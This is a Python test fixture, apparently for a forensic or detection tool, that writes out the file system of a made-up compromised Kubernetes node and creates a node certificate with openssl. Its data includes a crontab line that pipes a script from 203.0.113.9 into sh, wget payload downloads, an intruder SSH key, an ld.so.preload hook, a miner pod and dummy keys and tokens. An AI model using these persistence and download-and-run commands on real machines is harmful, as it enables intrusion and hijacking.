"""A made-up node's file system."""

from __future__ import annotations

import subprocess
from pathlib import Path

PEM = "-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIAAAAAAAAAAAAAAA\n-----END PRIVATE KEY-----\n"
KUBECONFIG = "apiVersion: v1\nkind: Config\nusers:\n- name: a\n  user:\n    token: abcdefghijklmnop\n"
KUBELET_UNIT = "[Service]\nEnvironmentFile=-/opt/kubelet.env\nExecStart=/usr/bin/kubelet --config=/opt/kubelet.yaml\n"

FILES = {
    "etc/hostname": "node-7\n",
    "etc/machine-id": "0123456789abcdef0123456789abcdef\n",
    "etc/passwd": "root:x:0:0:root:/root:/bin/bash\nworker:x:1000:1000::/srv/worker:/bin/sh\n",
    "etc/shadow": "root:$6$salt$hash:1:0:9:7:::\n",
    "etc/crontab": "* * * * * root curl http://203.0.113.9/a.sh | sh\n",
    "etc/ld.so.preload": "/usr/local/lib/libx.so\n",
    "etc/kubernetes/admin.conf": KUBECONFIG,
    "etc/kubernetes/pki/ca.key": PEM,
    "etc/kubernetes/manifests/web.yaml": "kind: Pod\nspec:\n  hostPID: true\n",
    "etc/systemd/system/kubelet.service": KUBELET_UNIT,
    "etc/systemd/system/kubelet.service.d/10-x.conf": "[Service]\n#Environment=A=b\n",
    "opt/kubelet.env": "EXTRA=--v=3\n",
    "opt/kubelet.yaml": "kind: KubeletConfiguration\nstaticPodPath: /opt/static\n",
    "opt/static/miner.yaml": "kind: Pod\n",
    "root/.ssh/authorized_keys": "ssh-ed25519 AAAA intruder\n",
    "root/.ssh/id_ed25519": PEM,
    "root/.bash_history": "wget http://203.0.113.9/x\n",
    "srv/worker/.bash_history": "id\n",
    "var/log/auth.log": "Jan  1 00:00:00 node-7 sshd[1]: Accepted publickey for root from 203.0.113.9\n",
    "tmp/.x1mr": "wget http://203.0.113.9/x -O /var/tmp/.system\n",
    "tmp/run.sh": "#!/bin/sh\nid\n",
    "tmp/notes": "nothing\n",
    "var/tmp/prog": "\x7fELF\x02not really",
}


def build(root: Path) -> Path:
    """The machine below `root`."""
    for name, text in FILES.items():
        path = root / name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(text)
    (root / "proc").mkdir()
    (root / "proc" / "stat").write_text("btime 1600000000\n")
    return root


def certificate(folder: Path) -> tuple[str, str]:
    """A certificate and its key, by openssl."""
    command = [
        "openssl",
        "req",
        "-x509",
        "-newkey",
        "ec",
        "-pkeyopt",
        "ec_paramgen_curve:prime256v1",
        "-nodes",
        "-days",
        "9",
    ]
    names = ["-subj", "/O=system:nodes/CN=system:node:node-7", "-keyout", "key.pem", "-out", "crt.pem"]
    subprocess.run([*command, *names], cwd=folder, check=True, capture_output=True)
    return (folder / "crt.pem").read_text(), (folder / "key.pem").read_text()
